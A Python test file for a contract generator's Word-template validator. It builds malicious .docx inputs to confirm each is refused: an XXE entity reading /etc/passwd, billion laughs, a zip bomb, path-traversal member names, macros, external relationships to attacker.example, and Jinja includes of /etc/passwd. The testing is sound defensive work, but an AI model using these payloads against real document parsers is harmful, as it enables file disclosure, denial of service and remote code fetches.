"""Word house templates are checked byte by byte before docxtpl or python-docx open them.

RELIABILITY.md cases 19-24. Each bad template is built from the shipped base.docx with one change,
passed with --templates, and must stop the build with the template file and the part named,
exit 1, no traceback and nothing written.
"""

import io
import zipfile
from pathlib import Path

import docx
import pytest

from clausegen.errors import InputError
from clausegen.loading import DEFAULT_TEMPLATES, docx_template

BASE = DEFAULT_TEMPLATES / "base.docx"
DOC = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
FILE = "house/nda.docx"


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(BASE) as z:
        return {name: z.read(name) for name in z.namelist()}


def package(members: dict[str, bytes] | list[tuple[str, bytes]], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in (members.items() if isinstance(members, dict) else members):
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, compress_type=compression)
    return out.getvalue()


def changed(part: str, old: str, new: str) -> bytes:
    members = parts()
    text = members[part].decode("utf-8")
    assert old in text, f"{old!r} not in {part}"
    members[part] = text.replace(old, new, 1).encode("utf-8")
    return package(members)


def problem(data: bytes) -> str:
    with pytest.raises(InputError) as info:
        docx_template.check(data, FILE)
    return "\n".join(d.format() for d in info.value.diagnostics)


@pytest.fixture
def house_build(tiny, cli):
    """Build the NDA with house/nda.docx; return the CLI result after checking nothing was written."""
    def run(data: bytes):
        (tiny / "house").mkdir(exist_ok=True)
        (tiny / FILE).write_bytes(data)
        result = cli("build", "profiles/case.yaml", "--templates", "house", "--format", "md,docx", "--documents", "nda")
        assert "Traceback" not in result.err
        return result

    return run


def assert_refused(result, tiny: Path, message: str) -> None:
    assert result.code == 1
    assert result.err.startswith(f"{FILE}: {message}\n"), result.err
    assert not (tiny / "output").exists()


def test_the_shipped_template_passes():
    docx_template.check(BASE.read_bytes(), "base.docx")


def test_a_template_written_by_python_docx_passes():
    document = docx.Document(str(BASE))
    document.add_paragraph("House footer text & more")
    buffer = io.BytesIO()
    document.save(buffer)
    docx_template.check(buffer.getvalue(), FILE)


# --- 19, 20: DOCTYPE, external entities, billion laughs ---------------------------------------

XXE = '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                    for i in range(1, 10)) + "]>\n")


def test_doctype_with_external_entity_is_refused(house_build, tiny):
    data = changed(DOC, "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n", XXE)
    data = zipfile.ZipFile(io.BytesIO(data)).read(DOC)
    members = parts()
    members[DOC] = data.replace(b"{{ document.title }}", b"&xxe;")
    result = house_build(package(members))
    assert_refused(result, tiny, "DOCTYPE not allowed in word/document.xml\n    hint: Word never writes one; a DOCTYPE can "
                                 "declare entities that read files or expand without end")


def test_billion_laughs_is_refused(house_build, tiny):
    members = parts()
    styles = members["word/styles.xml"].decode("utf-8").split("\n", 1)[1]
    members["word/styles.xml"] = (LAUGHS + styles.replace("Calibri", "&lol9;", 1)).encode("utf-8")
    assert_refused(house_build(package(members)), tiny, "DOCTYPE not allowed in word/styles.xml")


def test_doctype_in_another_encoding_is_refused_after_parsing():
    members = parts()
    members["word/settings.xml"] = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x>\n<x/>').encode("utf-16")
    assert problem(package(members)).startswith(f"{FILE}: DOCTYPE not allowed in word/settings.xml")


def test_xml_that_is_not_well_formed_is_refused():
    data = changed("word/footer1.xml", "</w:ftr>", "</w:ft>")
    assert problem(data).startswith(f"{FILE}: word/footer1.xml is not well-formed XML (line 2): Opening and ending tag "
                                    "mismatch: ftr line 2 and ft")


# --- 21, 22: the zip itself ------------------------------------------------------------------

def test_zip_bomb_member_is_refused_before_parsing(house_build, tiny):
    members = parts()
    members["word/bomb.xml"] = b"<a>" + b" " * 5_000_000 + b"</a>"
    result = house_build(package(members))
    assert result.code == 1
    assert result.err.startswith(f"{FILE}: zip member 'word/bomb.xml' inflates ")
    assert "times (to 5000007 bytes); the limit is 200 times above 1000000 bytes\n    hint: this looks like a zip bomb" \
           in result.err
    assert not (tiny / "output").exists()


def test_total_inflated_size_is_capped(monkeypatch):
    monkeypatch.setattr(docx_template, "MAX_TOTAL_BYTES", 20_000)
    assert problem(BASE.read_bytes()) == f"{FILE}: the Word template inflates to 29693 bytes; the limit is 20000"


def test_a_header_that_understates_the_size_does_not_get_past_the_cap(monkeypatch):
    """The headers claim little; what inflates is counted as it comes out of the member."""
    members = parts()
    members["word/big.xml"] = b"<a>" + b"x" * 100_000 + b"</a>"
    data = bytearray(package(members))
    # Rewrite the sizes in the central directory and local header to claim 10 bytes.
    for signature, size_offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            name_offset = 46 if signature == b"PK\x01\x02" else 30
            name_len = int.from_bytes(data[start + (28 if signature == b"PK\x01\x02" else 26):][:2], "little")
            if data[start + name_offset:start + name_offset + name_len] == b"word/big.xml":
                data[start + size_offset:start + size_offset + 4] = (10).to_bytes(4, "little")
            start += 4
    message = problem(bytes(data))
    assert message.startswith(f"{FILE}: zip member 'word/big.xml' cannot be read (")
    assert message.endswith("hint: the file is damaged or truncated; save it again from Word")


def test_too_many_members_is_refused(monkeypatch):
    monkeypatch.setattr(docx_template, "MAX_MEMBERS", 10)
    assert problem(BASE.read_bytes()) == f"{FILE}: the Word template has 13 zip members; the limit is 10"


def test_duplicate_member_names_are_refused(house_build, tiny):
    members = list(parts().items()) + [(DOC, b"<w:document/>")]
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = package(members)
    assert_refused(house_build(data), tiny, "duplicate zip member name 'word/document.xml'\n    hint: two members with "
                                            "one name can be read differently by different programs")


@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml",
                                  "word\\evil.xml"])
def test_traversal_and_absolute_member_names_are_refused(house_build, tiny, name):
    members = parts()
    members[name] = b"<x/>"
    assert_refused(house_build(package(members)), tiny,
                   f"unsafe zip member name {name!r}\n    hint: member names are relative paths without '..'")
    assert not (tiny.parent / "evil.xml").exists()


@pytest.mark.parametrize("cut", [0.5, 0.98])
def test_a_truncated_zip_is_refused(house_build, tiny, cut):
    data = BASE.read_bytes()
    result = house_build(data[: int(len(data) * cut)])
    assert result.code == 1
    assert result.err.startswith(f"{FILE}: not a Word file: the zip cannot be read (")
    assert not (tiny / "output").exists()


def test_a_corrupt_member_is_refused():
    data = bytearray(BASE.read_bytes())
    start = data.find(b"word/document.xml", data.find(b"PK\x03\x04"))
    # Damage the compressed bytes of one member (its local header is 30 bytes + the name).
    offset = data.rfind(b"PK\x03\x04", 0, start) + 30 + len("word/document.xml")
    data[offset + 5:offset + 25] = bytes(20)
    message = problem(bytes(data))
    assert message.startswith(f"{FILE}: zip member 'word/document.xml' cannot be read (")


def test_not_a_zip_at_all():
    assert problem(b"%PDF-1.7 this is not a Word file").startswith(
        f"{FILE}: not a Word file: the zip cannot be read (File is not a zip file)")


def test_a_macro_enabled_document_is_refused():
    members = parts()
    ct = members["[Content_Types].xml"].decode("utf-8")
    members["[Content_Types].xml"] = ct.replace("wordprocessingml.document.main+xml",
                                                "../ms-word.document.macroEnabled.main+xml").encode("utf-8")
    assert problem(package(members)) == (
        f"{FILE}: not a Word document (.docx): word/document.xml has content type "
        "application/vnd.openxmlformats-officedocument.../ms-word.document.macroEnabled.main+xml\n"
        "    hint: macro-enabled documents (.docm) and templates (.dotx) are not used; save as .docx")
    members = parts()
    members["word/vbaProject.bin"] = b"\x00" * 10
    assert problem(package(members)) == (f"{FILE}: the Word template contains macros (vbaProject.bin)\n"
                                         "    hint: save it as .docx without macros")


# --- 23: relationships ---------------------------------------------------------------------------

def external(rel_type: str, target: str) -> bytes:
    return changed(RELS, "</Relationships>",
                   f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   f'{rel_type}" Target="{target}" TargetMode="External"/></Relationships>')


@pytest.mark.parametrize("rel_type, target", [
    ("attachedTemplate", "http://attacker.example/template.dotm"),
    ("image", "file:///etc/passwd"),
    ("oleObject", "\\\\attacker.example\\share\\x.xlsx"),
    ("hyperlink", "file:///etc/passwd"),
])
def test_external_relationships_are_refused(house_build, tiny, rel_type, target):
    assert_refused(house_build(external(rel_type, target)), tiny,
                   f"external relationship in {RELS}: rId99 ({rel_type}) -> {target}\n"
                   "    hint: Word would fetch it when the document opens; remove the link (only http(s) and mailto "
                   "hyperlinks may point outside)")


def test_web_hyperlinks_may_point_outside():
    docx_template.check(external("hyperlink", "https://example.com/policy"), FILE)
    docx_template.check(external("hyperlink", "mailto:legal@example.com"), FILE)


def test_a_relationship_to_a_missing_or_outside_part_is_refused():
    data = changed(RELS, 'Target="theme/theme1.xml"', 'Target="../../../etc/passwd"')
    assert problem(data) == (f"{FILE}: relationship in {RELS}: rId7 (theme) points to '../../../etc/passwd', which "
                             "is not in the template\n    hint: save the template again from Word")


# --- 24: Jinja tags in Word runs ---------------------------------------------------------------

def test_tags_split_across_runs_are_joined_and_render(house_build, tiny):
    data = changed(DOC, "<w:r><w:t>{{ document.title }}</w:t></w:r>",
                   '<w:r><w:t>{{ docu</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr>'
                   "<w:t>ment.title }</w:t></w:r><w:r><w:t>}</w:t></w:r>")
    result = house_build(data)
    assert result.code == 0, result.err
    assert docx.Document(str(tiny / "output/tiny-case/nda.docx")).paragraphs[0].text == "Non-disclosure agreement"


def test_a_tag_split_across_paragraphs_is_refused_with_its_part_and_text(house_build, tiny):
    data = changed(DOC, "<w:r><w:t>{{ document.title }}</w:t></w:r>",
                   "<w:r><w:t>Title: {{ document.</w:t></w:r></w:p><w:p><w:r><w:t>title }} here</w:t></w:r>")
    assert_refused(house_build(data), tiny,
                   "a Jinja tag in word/document.xml is not closed inside its paragraph: 'Title: {{ document.'\n"
                   "    hint: keep each {{ }} and {% %} tag inside one paragraph; check for a missing brace")


AVAILABLE = ("document.control, document.date, document.footer, document.id, document.reference, document.revision, "
             "document.status, "
             "document.subtitle, document.title, client.name, supplier.name, profile.title, library.name, "
             "library.version, marking, body (with {{p body }})")


def test_a_tag_missing_a_brace_is_refused(house_build, tiny):
    data = changed("word/footer1.xml", "{{ document.footer }}", "{{ document.footer }")
    assert_refused(house_build(data), tiny,
                   "a Jinja tag in word/footer1.xml is not closed inside its paragraph: "
                   "'{{ document.footer }Page 1 of 1'\n"
                   "    hint: keep each {{ }} and {% %} tag inside one paragraph; check for a missing brace")


def test_an_unbalanced_if_is_refused_with_its_part_and_text(house_build, tiny):
    data = changed("word/header1.xml", "{{ marking }}", "{% if marking %}{{ marking }}")
    assert_refused(house_build(data), tiny,
                   "template syntax in word/header1.xml: Unexpected end of template. Jinja was looking "
                   "for the following tags: 'elif' or 'else' or 'endif'. The innermost block that needs to be closed "
                   "is 'if'.\n    hint: near: {{ document.title }}{% if document.status == \"draft\" %}DRAFT{% endif %}"
                   "{% if document.status == \"draft\" %} {% endif %}")


def test_a_paragraph_tag_that_is_not_alone_is_refused(house_build, tiny):
    """docxtpl replaced the paragraph with `{{ body }}` and silently dropped the `{%p if %}`."""
    data = changed(DOC, "{{p body }}", "{%p if body %}{{p body }}")
    assert_refused(house_build(data), tiny,
                   "a paragraph tag in word/document.xml is not alone in its paragraph: '{%p if body %}{{p body }}'\n"
                   "    hint: docxtpl replaces the whole paragraph of a {%p %}, {%tr %}, {%tc %} or {{p }} tag; put it "
                   "in a paragraph of its own")


def test_an_unclosed_paragraph_block_is_refused(house_build, tiny):
    data = changed(DOC, "<w:p><w:pPr><w:pStyle w:val=\"BodyText\"/></w:pPr><w:r><w:t>{{p body }}",
                   "<w:p><w:r><w:t>{%p if body %}</w:t></w:r></w:p>"
                   "<w:p><w:pPr><w:pStyle w:val=\"BodyText\"/></w:pPr><w:r><w:t>{{p body }}")
    result = house_build(data)
    assert result.code == 1
    assert result.err.startswith(f"{FILE}: template syntax in word/document.xml: Unexpected end of template. Jinja "
                                 "was looking for the following tags: 'elif' or 'else' or 'endif'.")
    assert not (tiny / "output").exists()


def test_a_value_the_template_is_not_given_is_refused(house_build, tiny):
    data = changed("word/footer1.xml", "{{ document.footer }}", "{{ document.footer }} {{ client.country }} {{ vat }}")
    assert_refused(house_build(data), tiny,
                   "word/footer1.xml uses {{ vat }}, {{ client.country }}, which a Word template is not given\n"
                   f"    hint: available: {AVAILABLE}")


def test_an_unsafe_construct_is_refused_at_load(house_build, tiny):
    data = changed("word/header1.xml", "{{ marking }}", "{{ body.subdocx.save('x.docx') }}")
    assert_refused(house_build(data), tiny, "word/header1.xml uses {{ body.subdocx }}, which a Word template is not "
                                            f"given\n    hint: available: {AVAILABLE}")
    data = changed("word/header1.xml", "{{ marking }}", "{% include '/etc/passwd' %}")
    assert_refused(house_build(data), tiny, "unsafe template construct in word/header1.xml: "
                                            "{% include %} is not allowed: templates cannot read other files\n"
                                            "    hint: near: {% include '/etc/passwd' %} {{ document.title }}"
                                            "{% if document.status == \"draft\" %}DRAFT{% endif %}{% if document.status")


def test_core_properties_are_checked_as_templates():
    data = changed("docProps/core.xml", "<dc:creator>clausegen</dc:creator>", "<dc:creator>{{ client.name </dc:creator>")
    assert problem(data).startswith(f"{FILE}: template syntax in docProps/core.xml (dc:creator): ")


def test_every_value_a_word_template_is_given_renders(house_build, tiny):
    fields = " ".join(f"{{{{ {k}.{a} }}}}" for k, attrs in docx_template.WORD_TEMPLATE_FIELDS.items()
                      for a in sorted(attrs or ())) + " {{ marking }}"
    result = house_build(changed("word/footer1.xml", "{{ document.footer }}", fields))
    assert result.code == 0, result.err
    footer = docx.Document(str(tiny / "output/tiny-case/nda.docx")).sections[0].footer.paragraphs[0].text
    # control, date (none given: empty), footer, id, reference, revision, status, subtitle, ...
    assert footer.startswith("revision 1  Draft · revision 1 nda nda · tiny 0.1.0 1 draft "
                             "Hosting of the test system: Smith & Jones <Hosting> \"A/S\" Ærø and Supplier Ltd "
                             "Non-disclosure agreement Smith & Jones <Hosting> \"A/S\" Ærø Supplier Ltd Hosting of the "
                             "test system tiny 0.1.0 CONFIDENTIAL")
